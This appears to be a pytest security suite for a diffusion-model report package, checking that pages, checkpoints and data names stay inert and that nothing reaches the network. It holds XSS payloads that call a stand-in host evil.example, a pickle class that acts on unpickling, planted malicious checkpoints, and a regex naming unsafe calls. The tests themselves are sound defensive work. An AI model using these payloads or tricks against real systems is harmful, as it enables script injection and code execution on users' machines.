@@ -1,0 +1,297 @@
+"""Nothing that is read can run, nothing that is shown can act, and nothing leaves the machine."""
+import ast, html, json, os, pickle, re, shutil, subprocess, sys
+from pathlib import Path
+
+import nbformat
+import numpy as np
+import pandas as pd
+import pytest
+import torch
+from bs4 import BeautifulSoup
+from nbformat import v4
+from PIL import Image
+
+import weldsynth
+from weldsynth.core import Study, StudyError, choose_profile, inert, markdown_table, open_study
+from weldsynth.data import load_patches, read_grey
+from weldsynth.ldm import load_pipeline, train_denoiser
+from weldsynth.report import _markdown, execute, page_problems, render
+
+PACKAGE = Path(weldsynth.__path__[0])
+PAYLOADS = ['<script>alert(1)</script>', '<img src=x onerror=alert(2)>', '"><svg onload=alert(3)>', "'><iframe src=javascript:alert(4)>", '[click](javascript:alert(5))', '![x](http://evil.example/6.png)',
+            '<a href="java\nscript:alert(7)">x</a>', '</title></style></textarea><script src=//evil.example/8.js></script>', '<style>@import url(http://evil.example/9.css)</style>',
+            '<meta http-equiv="refresh" content="0;url=http://evil.example/10">', '{{ 11 * 11 }}${{<%= 11 %>}}', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(12)&gt;">']
+
+
+# --- weights and tables ---
+
+class Bomb:
+    "Unpickling this makes a file."
+    def __init__(self, file): self.file = str(file)
+    def __reduce__(self): return open, (self.file, 'w')
+
+
+@pytest.fixture(scope='module')
+def trained(tmp_path_factory):
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setenv('WELDSYNTH_HOME', str(tmp_path_factory.mktemp('trained')))
+        study = open_study('trained', profile='fixture')
+        train_denoiser(study)
+        yield study
+
+
+WEIGHTS = 'transformer/diffusion_pytorch_model.safetensors'
+
+
+def custom(part):
+    "A pipeline that wants code of its own to be run."
+    def plant(pipe, bomb):
+        folder = pipe if part == '_class_name' else pipe/part
+        (folder/'evil.py').write_text(f"open({str(bomb.file)!r}, 'w')\nfrom diffusers import DiTPipeline, DiTTransformer2DModel\nclass Evil(DiTPipeline): pass\n")
+        index = json.loads((pipe/'model_index.json').read_text())
+        (pipe/'model_index.json').write_text(json.dumps(dict(index, **{part: ['evil', 'Evil']})))
+    return plant
+
+
+PLANTED = {
+    'a pickle for the safetensors':      lambda p, bomb: ((p/WEIGHTS).unlink(), torch.save(bomb, (p/WEIGHTS).with_suffix('.bin'))),
+    'a pickle beside the safetensors':   lambda p, bomb: torch.save(bomb, (p/WEIGHTS).with_suffix('.bin')),
+    'a pickle named safetensors':        lambda p, bomb: (p/WEIGHTS).write_bytes(pickle.dumps(bomb)),
+    'a torch file named safetensors':    lambda p, bomb: torch.save(bomb, p/WEIGHTS),
+    'a checkpoint of another kind':      lambda p, bomb: torch.save(bomb, p/'model.ckpt'),
+    'code for the pipeline':             custom('_class_name'),
+    'code for the denoiser':             custom('transformer'),
+    'a component from the library':      lambda p, bomb: (p/'model_index.json').write_text(json.dumps(dict(json.loads((p/'model_index.json').read_text()), transformer=['os', 'system']))),
+}
+
+
+@pytest.mark.parametrize('what', PLANTED)
+def test_a_malicious_checkpoint_is_refused_unread(what, trained, tmp_path):
+    "By the hashes of the artefact, before anything is opened; and without hashes by the loader, before anything is run."
+    made, fired = train_denoiser(trained), tmp_path/'fired'
+    study = Study('copy', Path(shutil.copytree(trained.path, tmp_path/'copy')), trained.profile)
+    folder = study.path/made.path.relative_to(trained.path)
+    PLANTED[what](folder/'pipeline', Bomb(fired))
+    with pytest.raises(StudyError, match=rf'pipeline/.*(is missing|was changed|was not made by the study): remove the folder {folder.name}'): load_pipeline(study)
+    assert not fired.exists()
+    info = folder/'artefact.json'
+    info.write_text(json.dumps({k: v for k, v in json.loads(info.read_text()).items() if k != 'files'}))
+    try: load_pipeline(study)
+    except Exception: pass
+    else: assert (folder/'pipeline'/WEIGHTS).exists(), 'only the true weights were loaded'
+    assert not fired.exists()
+
+
+def test_the_bomb_is_a_live_one(tmp_path):
+    for load in (lambda: pickle.loads(pickle.dumps(Bomb(tmp_path/'fired'))), lambda: (torch.save(Bomb(tmp_path/'fired'), tmp_path/'b'), torch.load(tmp_path/'b', weights_only=False))):
+        load()
+        assert (tmp_path/'fired').exists()
+        (tmp_path/'fired').unlink()
+
+
+def test_pickled_patches_and_images_are_not_read(tmp_path):
+    fired = tmp_path/'fired'
+    (tmp_path/'images.safetensors').write_bytes(pickle.dumps(Bomb(fired)))
+    (tmp_path/'table.parquet').write_bytes(pickle.dumps(Bomb(fired)))
+    (tmp_path/'a.png').write_bytes(pickle.dumps(Bomb(fired)))
+    np.save(tmp_path/'b.npy', np.array([Bomb(fired)]), allow_pickle=True)
+    with pytest.raises(Exception): load_patches(tmp_path)
+    with pytest.raises(Exception): pd.read_parquet(tmp_path/'table.parquet')
+    for name in ('a.png', 'b.npy'):
+        with pytest.raises(StudyError, match='cannot be read as an image'): read_grey(tmp_path/name)
+    assert not fired.exists()
+
+
+FORBIDDEN = re.compile(r'(pickle|dill|cloudpickle|shelve|marshal)\b|^(eval|exec|compile|__import__)$|torch\.load$|joblib\.load$|np\.load$|read_pickle$|yaml\.(unsafe_|full_)?load$|os\.system$|trust_remote_code')
+
+
+def test_the_code_has_no_way_to_unpickle_or_to_run_text():
+    found = []
+    for file in PACKAGE.glob('*.py'):
+        for node in ast.walk(ast.parse(file.read_text())):
+            names = [ast.unparse(node.func)] + [k.arg for k in node.keywords if k.arg] if isinstance(node, ast.Call) else [a.name for a in node.names] if isinstance(node, (ast.Import, ast.ImportFrom)) else []
+            found += [f'{file.name}: {n}' for n in names if FORBIDDEN.search(n)]
+            if isinstance(node, ast.Call) and ast.unparse(node.func).endswith('from_pretrained'): assert 'use_safetensors' in [k.arg for k in node.keywords] or 'Config' in ast.unparse(node.func), f'{file.name}: {ast.unparse(node)}'
+    assert not found
+
+
+# --- pages ---
+
+def active(soup):
+    "What could act on a page."
+    tags = [t.name for t in soup(['script', 'iframe', 'object', 'embed', 'form', 'base', 'svg', 'audio', 'video'])] + [str(t) for t in soup('meta') if str(t.get('http-equiv', '')).lower() == 'refresh']
+    handlers = [f'{t.name} {a}' for t in soup(True) for a in t.attrs if a.startswith('on')]
+    links = [v for t in soup(True) for a in ('href', 'src', 'action') if (v := t.get(a)) and re.match(r'\s*(javascript|vbscript|data:text)', re.sub(r'\s', '', v), re.I)]
+    foreign = [str(t) for t in soup('img') if not t.get('src', '').startswith('data:')] + [t['href'] for t in soup('link') if not t['href'].startswith('data:')]
+    return tags + handlers + links + foreign + [s for s in soup('style') if 'evil' in s.text]
+
+
+HOSTILE = '''
+import json, matplotlib.pyplot as plt, pandas as pd, torch
+from pathlib import Path
+from IPython.display import HTML, Markdown, display
+from weldsynth.core import Study, choose_profile, patch_rows, show, show_table
+display(Markdown('<div class="verdict"><p>none</p></div>'))
+payloads = json.loads(Path(data).read_text())
+show_table(pd.DataFrame({'label': payloads, **{p: [1]*len(payloads) for p in payloads}}), 'A table of ' + payloads[0])
+for p in payloads:
+    fig, ax = plt.subplots(figsize=(1, 1)); ax.set_title('t')
+    show(fig, p)
+    print(p)
+    display(pd.DataFrame({p: [p]}, index=[p]))
+    display(Study(p, Path('.'), choose_profile('fixture')))
+    display(HTML('<b>raw</b> ' + p)); display(Markdown('raw ' + p)); display(HTML('<p title="a">raw</p>' + p))
+show(patch_rows({'<b>row</b>': torch.zeros(3, 1, 8, 8, dtype=torch.uint8)}, columns=3), 'rows')
+'''
+
+
+@pytest.fixture(scope='module')
+def hostile(tmp_path_factory):
+    "A rendered report that shows every payload in every way that the project shows text, and in some that it does not. Its study is named by a payload."
+    folder = tmp_path_factory.mktemp('hostile')
+    (folder/'nbs').mkdir()
+    (folder/'payloads.json').write_text(json.dumps(PAYLOADS))
+    cells = [v4.new_markdown_cell('# Hostile'), v4.new_code_cell("name = ''\ndata = ''\nprofile = ''\ngroup = ''\nseed = 0", metadata=dict(tags=['parameters'])), v4.new_code_cell(HOSTILE),
+             *(v4.new_markdown_cell(f'## {inert(p)}') for p in PAYLOADS)]
+    nbformat.write(v4.new_notebook(cells=cells), folder/'nbs'/'c.ipynb')
+    study = Study(PAYLOADS[1], folder/'made', choose_profile('fixture'), str(folder/'payloads.json'))
+    execute(study, folder/'nbs', ['c'])
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setenv('PATH', os.devnull)
+        return render(study, ['c'])
+
+
+def test_payloads_are_inert_and_legible(hostile):
+    soup = BeautifulSoup(hostile.read_text(), 'html.parser')
+    assert not active(soup) and page_problems(hostile.parent) == []
+    plain, shown = lambda t: ' '.join(t.split()), ' '.join(soup.main.get_text(' ').split())
+    cells = {plain(td.get_text()) for td in soup('td')} | {plain(th.get_text()) for th in soup('th')}
+    captions, alts = {plain(p.get_text()) for p in soup('p', class_='caption')}, {plain(i['alt']) for i in soup('img')}
+    for p in map(plain, PAYLOADS):
+        assert p in cells and p in captions and p in alts, 'shown as it was written'
+        assert f'Study {p}' in shown
+    assert PAYLOADS[1] in soup.title.get_text() and PAYLOADS[1] in soup.footer.get_text()
+    print(f'{len(PAYLOADS)} payloads in {len(soup("td"))} table cells, {len(captions)} captions, titles, printed lines and raw outputs: none acts')
+
+
+def test_every_page_has_a_policy_that_comes_first(hostile):
+    head = BeautifulSoup(hostile.read_text(), 'html.parser').head
+    policy = head.find('meta', attrs={'http-equiv': 'Content-Security-Policy'})
+    assert [t.name for t in head.find_all(True)].index('meta') < 2 and str(head).index('Content-Security-Policy') < min(str(head).index(t) for t in ('<title', '<style', '<link'))
+    said = dict(part.strip().split(' ', 1) for part in policy['content'].split(';'))
+    assert said['default-src'] == "'none'" and 'script-src' not in said and said['img-src'] == 'data:' and said['base-uri'] == said['form-action'] == "'none'"
+    quarto = (PACKAGE.parent/'_quarto.yml').read_text()
+    assert "default-src 'none'" in quarto and "connect-src 'none'" in quarto and 'http:' not in quarto.split('Content-Security-Policy')[1].split('">')[0]
+
+
+def test_a_browser_runs_none_of_it(hostile):
+    playwright, chromium = pytest.importorskip('playwright.sync_api'), shutil.which('chromium')
+    if not chromium: pytest.skip('chromium is not installed')
+    with playwright.sync_playwright() as p:
+        browser = p.chromium.launch(executable_path=chromium, args=['--no-sandbox'])
+        page, heard = browser.new_page(), []
+        page.on('dialog', lambda d: (heard.append(d.message), d.dismiss()))
+        page.on('request', lambda r: heard.append(r.url) if not r.url.startswith(('file:', 'data:')) else None)
+        page.goto(hostile.as_uri())
+        page.wait_for_timeout(300)
+        assert not heard and page.evaluate('document.scripts.length') == 0 and page.url == hostile.as_uri()
+        browser.close()
+
+
+@pytest.mark.parametrize('payload', PAYLOADS)
+def test_text_is_inert_wherever_it_is_shown(payload):
+    soup = BeautifulSoup(_markdown(f'a {inert(payload)} b\n\n{markdown_table(pd.DataFrame({payload: [payload]}))}'), 'html.parser')
+    assert not active(soup) and not soup('a') and not soup('code') and not soup('math') and ' '.join(payload.split()) in ' '.join(soup.get_text().split())
+
+
+@pytest.mark.parametrize('payload', PAYLOADS)
+def test_payloads_name_no_study_and_no_class(payload, tmp_path, monkeypatch):
+    monkeypatch.setenv('WELDSYNTH_HOME', str(tmp_path))
+    with pytest.raises(StudyError, match='is not a plain folder name') as e: open_study(payload, profile='fixture')
+    assert '\n' not in str(e.value).replace(payload, '')
+    folder = tmp_path/payload.replace('/', '')
+    folder.mkdir()
+    assert re.fullmatch(r'[\w.+-]+', open_study('', str(folder), 'fixture').name)
+
+
+# --- the network ---
+
+GUARD = '''
+import os, socket
+def _watch(name):
+    real = getattr(socket.socket, name)
+    def guarded(self, *args):
+        address = next((a for a in args if isinstance(a, tuple)), None)
+        if self.family in (socket.AF_INET, socket.AF_INET6) and address and not str(address[0]).startswith(('127.', '::1', 'localhost')):
+            with open(os.environ['HEARD'], 'a') as f: f.write(f'{name} {address}\\n')
+            raise OSError('no network here')
+        return real(self, *args)
+    setattr(socket.socket, name, guarded)
+for _name in ('connect', 'connect_ex', 'sendto'): _watch(_name)
+_resolve = socket.getaddrinfo
+def _guarded(host, *args, **kwargs):
+    if host not in (None, '', 'localhost', '127.0.0.1', '::1', '0.0.0.0'):
+        with open(os.environ['HEARD'], 'a') as f: f.write(f'getaddrinfo {host}\\n')
+        raise OSError('no network here')
+    return _resolve(host, *args, **kwargs)
+socket.getaddrinfo = _guarded
+open(os.environ['HEARD'] + f'.{os.getpid()}', 'w')
+'''
+
+STUDY = '''
+import sys
+from weldsynth.core import open_study
+from weldsynth.report import execute, page_problems, render
+from weldsynth.verdict import recommend
+from weldsynth.cards import finish
+study = open_study('named', sys.argv[1], 'fixture', 'film')
+recommend(study)
+chapters = ('04_eval', '01b_check')
+execute(study, chapters=chapters)
+assert page_problems(render(study, chapters).parent) == []
+finish(study)
+import huggingface_hub.constants
+assert huggingface_hub.constants.HF_HUB_OFFLINE
+'''
+
+
+@pytest.fixture(scope='module')
+def walled(tmp_path_factory):
+    "A study on data with payloads for file, film and folder names, from reading to pages and cards, in processes whose sockets reach this machine only."
+    folder = tmp_path_factory.mktemp('walled')
+    data, rows = folder/PAYLOADS[1], []
+    data.mkdir(), (folder/'guard').mkdir()
+    for i in range(240):
+        film = PAYLOADS[i//20].replace('\n', '')
+        name = re.sub(r'[\\/\n]', '', f'{i} {film}.png')
+        Image.fromarray(np.random.default_rng(i).integers(0, 256, (32, 32), dtype=np.uint8)).save(data/name)
+        rows.append((name, ('clean', 'crack', 'porosity')[i % 3], film))
+    pd.DataFrame(rows, columns=['image', 'label', 'film']).to_csv(data/'manifest.csv', index=False)
+    (folder/'guard'/'sitecustomize.py').write_text(GUARD)
+    path = os.pathsep.join([str(folder/'guard'), str(PACKAGE.parent)])
+    run = lambda code, *args: subprocess.run([sys.executable, '-c', code, *args], capture_output=True, text=True, cwd=folder,
+                                             env=dict(os.environ, PYTHONPATH=path, HEARD=str(folder/'heard'), WELDSYNTH_HOME=str(folder), PATH=os.pathsep.join([str(Path(sys.executable).parent), '/bin', '/usr/bin'])))
+    control = run("import socket\ntry: socket.create_connection(('192.0.2.1', 80), 1)\nexcept OSError as e: print(e)")
+    assert control.stdout == 'no network here\n' and (folder/'heard').read_text() == "getaddrinfo 192.0.2.1\n", 'the wall stands'
+    (folder/'heard').unlink()
+    return folder, run(STUDY, str(data))
+
+
+@pytest.mark.slow
+def test_a_study_needs_no_network(walled):
+    folder, done = walled
+    assert done.returncode == 0, done.stderr[-2000:]
+    assert not (folder/'heard').exists(), (folder/'heard').read_text()
+    print(f'{len(list(folder.glob("heard.*")))} processes behind the wall, no attempt to leave')
+    assert len(list(folder.glob('heard.*'))) >= 4, 'the wall stood in the kernels too'
+
+
+@pytest.mark.slow
+def test_names_from_the_data_are_inert_in_the_pages_and_cards(walled):
+    folder = walled[0]
+    pages = list((folder/'studies'/'named'/'report').glob('*.html'))
+    assert len(pages) == 2
+    for page in pages: assert not active(BeautifulSoup(page.read_text(), 'html.parser'))
+    for card in (folder/'studies'/'named'/'cards').rglob('README.md'):
+        text = card.read_text().split('---', 2)[2]
+        assert '<img' not in text and html.escape(PAYLOADS[1]) in text
